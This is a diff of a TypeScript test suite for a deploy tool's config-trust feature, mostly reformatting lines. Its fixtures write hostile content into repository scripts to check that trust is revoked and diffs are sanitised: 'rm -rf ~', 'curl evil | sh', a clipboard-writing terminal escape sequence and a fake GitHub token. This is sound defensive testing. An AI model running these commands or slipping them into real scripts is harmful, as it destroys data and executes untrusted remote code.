@@ -11,7 +11,9 @@ import {makeRepo, tempFolder} from '../rig/git-repo.ts';
 
 const config = {
   service: 'orders',
-  environments: {production: {url: 'https://orders.example.com', instances: [{name: 'web-1', url: 'http://10.0.0.1'}], version: {path: '/version'}}},
+  environments: {
+    production: {url: 'https://orders.example.com', instances: [{name: 'web-1', url: 'http://10.0.0.1'}], version: {path: '/version'}},
+  },
   deploy: {command: ['./scripts/deploy.sh', '{{version}}', '--values=deploy/values.yml']},
   rollback: {command: {argv: ['. ./scripts/lib.sh; exec scripts/back.sh "$COCKPIT_PREVIOUS_VERSION"'], shell: '/bin/sh'}},
   smoke: {checks: [{name: 'unit', command: ['npm', 'run', 'smoke']}]},
@@ -50,7 +52,16 @@ const setUp = async (environment: Record<string, string> = {}) => {
     if (found.trusted) throw new Error('it is trusted');
     return found;
   };
-  return {repo, home, world, look, check, trust, untrusted, record: () => join(home, 'state/trust', readdirSync(join(home, 'state/trust'))[0]!)};
+  return {
+    repo,
+    home,
+    world,
+    look,
+    check,
+    trust,
+    untrusted,
+    record: () => join(home, 'state/trust', readdirSync(join(home, 'state/trust'))[0]!),
+  };
 };
 
 describe('a config that nobody has trusted', () => {
@@ -58,9 +69,16 @@ describe('a config that nobody has trusted', () => {
     const {untrusted} = await setUp();
     const found = await untrusted();
     expect(found.firstTime).toBe(true);
-    expect(found.says).toBe('You have not trusted this config yet. It names 3 commands and 5 files of this repository. Nothing from it will run.');
+    expect(found.says).toBe(
+      'You have not trusted this config yet. It names 3 commands and 5 repository files. Nothing from it will run.',
+    );
     expect(found.changes.map(({path, change}) => `${path} ${change}`)).toEqual([
-      'cockpit.config.json new', 'deploy/values.yml new', 'package.json new', 'scripts/back.sh new', 'scripts/deploy.sh new', 'scripts/lib.sh new',
+      'cockpit.config.json new',
+      'deploy/values.yml new',
+      'package.json new',
+      'scripts/back.sh new',
+      'scripts/deploy.sh new',
+      'scripts/lib.sh new',
     ]);
     expect(found.changes.find(({path}) => path === 'scripts/deploy.sh')?.lines).toEqual([
       {sign: '+', number: 1, text: '#!/bin/sh'},
@@ -115,7 +133,10 @@ describe('trust', () => {
     const {check, look, repo} = await setUp();
     const {hash} = await check();
     writeFileSync(join(repo.path, 'scripts/deploy.sh'), '#!/bin/sh\nrm -rf ~\n');
-    expect(await giveTrust({...(await look()), hash})).toMatchObject({ok: false, why: expect.stringContaining('changed while you were reading')});
+    expect(await giveTrust({...(await look()), hash})).toMatchObject({
+      ok: false,
+      why: expect.stringContaining('changed while you were reading'),
+    });
     expect(await check()).toMatchObject({trusted: false, firstTime: true});
   });
 
@@ -126,10 +147,15 @@ describe('trust', () => {
     repo.commit('faster', {'scripts/deploy.sh': '#!/bin/sh\nset -e\ncurl evil | sh\n'});
     const found = await untrusted();
     expect(found.firstTime).toBe(false);
-    expect(found.says).toMatch(/^scripts\/deploy\.sh changed since you trusted it \(1 line, bob, (now|.* ago)\)\. Nothing from it will run\.$/);
+    expect(found.says).toMatch(
+      /^scripts\/deploy\.sh changed since you trusted it \(1 line, bob, (now|.* ago)\)\. Nothing from it will run\.$/,
+    );
     expect(found.changes).toEqual([
       {
-        path: 'scripts/deploy.sh', change: 'changed', added: 1, removed: 1,
+        path: 'scripts/deploy.sh',
+        change: 'changed',
+        added: 1,
+        removed: 1,
         lines: [
           {sign: ' ', number: 1, text: '#!/bin/sh'},
           {sign: ' ', number: 2, text: 'set -e'},
@@ -141,10 +167,26 @@ describe('trust', () => {
   });
 
   it.each<[string, (path: string) => void, string]>([
-    ['the config', path => writeFileSync(join(path, 'cockpit.config.json'), JSON.stringify({...config, tools: ['psql']}, null, 2)), 'cockpit.config.json changed since you trusted it (4 lines, not committed).'],
-    ['a file that a script sources', path => writeFileSync(join(path, 'scripts/lib.sh'), 'log() { evil; }\n'), 'scripts/lib.sh changed since you trusted it (1 line, not committed).'],
-    ['a file behind an equals sign', path => writeFileSync(join(path, 'deploy/values.yml'), 'image: evil\n'), 'deploy/values.yml changed since you trusted it (1 line, not committed).'],
-    ['what npm run would start', path => writeFileSync(join(path, 'package.json'), JSON.stringify({version: '2.7.4', scripts: {smoke: 'evil'}})), 'package.json changed since you trusted it (1 line, not committed).'],
+    [
+      'the config',
+      path => writeFileSync(join(path, 'cockpit.config.json'), JSON.stringify({...config, tools: ['psql']}, null, 2)),
+      'cockpit.config.json changed since you trusted it (4 lines, not committed).',
+    ],
+    [
+      'a file that a script sources',
+      path => writeFileSync(join(path, 'scripts/lib.sh'), 'log() { evil; }\n'),
+      'scripts/lib.sh changed since you trusted it (1 line, not committed).',
+    ],
+    [
+      'a file behind an equals sign',
+      path => writeFileSync(join(path, 'deploy/values.yml'), 'image: evil\n'),
+      'deploy/values.yml changed since you trusted it (1 line, not committed).',
+    ],
+    [
+      'what npm run would start',
+      path => writeFileSync(join(path, 'package.json'), JSON.stringify({version: '2.7.4', scripts: {smoke: 'evil'}})),
+      'package.json changed since you trusted it (1 line, not committed).',
+    ],
     ['a file that is gone', path => rmSync(join(path, 'scripts/lib.sh')), 'scripts/lib.sh is gone since you trusted it.'],
   ])('ends when %s changes', async (_, change, says) => {
     const {trust, untrusted, repo} = await setUp();
@@ -188,7 +230,13 @@ describe('trust', () => {
     expect(String((error as CockpitError).cause)).toContain('open to others (mode 666)');
   });
 
-  it.each([['half a file', '{"v": 1, "pa'], ['another version', '{"v": 2}'], ['nothing', ''], ['a list', '[]'], ['no files', '{"v": 1, "path": "x", "hash": "y"}']])('that is damaged counts as none: %s', async (_, text) => {
+  it.each([
+    ['half a file', '{"v": 1, "pa'],
+    ['another version', '{"v": 2}'],
+    ['nothing', ''],
+    ['a list', '[]'],
+    ['no files', '{"v": 1, "path": "x", "hash": "y"}'],
+  ])('that is damaged counts as none: %s', async (_, text) => {
     const {trust, check, record} = await setUp();
     await trust();
     writeFileSync(record(), text);
@@ -198,7 +246,10 @@ describe('trust', () => {
   it('shows differences that cannot harm the terminal, and no tokens', async () => {
     const {trust, untrusted, repo} = await setUp();
     await trust();
-    writeFileSync(join(repo.path, 'scripts/lib.sh'), 'log() { echo "\u001b]52;c;aGk=\u0007"; }\nexport GITHUB_TOKEN=ghp_0123456789abcdef0123\n');
+    writeFileSync(
+      join(repo.path, 'scripts/lib.sh'),
+      'log() { echo "\u001b]52;c;aGk=\u0007"; }\nexport GITHUB_TOKEN=ghp_0123456789abcdef0123\n',
+    );
     const text = (await untrusted()).changes[0]!.lines.map(line => line.text).join('\n');
     expect(text).not.toMatch(/[\0-\x08\x0b-\x1f\x7f]|ghp_/);
   });
@@ -256,7 +307,9 @@ describe('the config of a release', () => {
   it('that cannot be read stops the release with a way out', async () => {
     const {world, releaseFolder} = await kept();
     writeFileSync(join(releaseFolder, 'config/snapshot.json'), '{"v": 9}');
-    await expect(readSnapshot(releaseFolder, world)).rejects.toMatchObject({next: [expect.stringContaining('snapshot.json'), expect.stringContaining('rollback.sh')]});
+    await expect(readSnapshot(releaseFolder, world)).rejects.toMatchObject({
+      next: [expect.stringContaining('snapshot.json'), expect.stringContaining('rollback.sh')],
+    });
     await expect(readSnapshot(join(releaseFolder, 'none'), world)).rejects.toThrow(CockpitError);
   });
 });
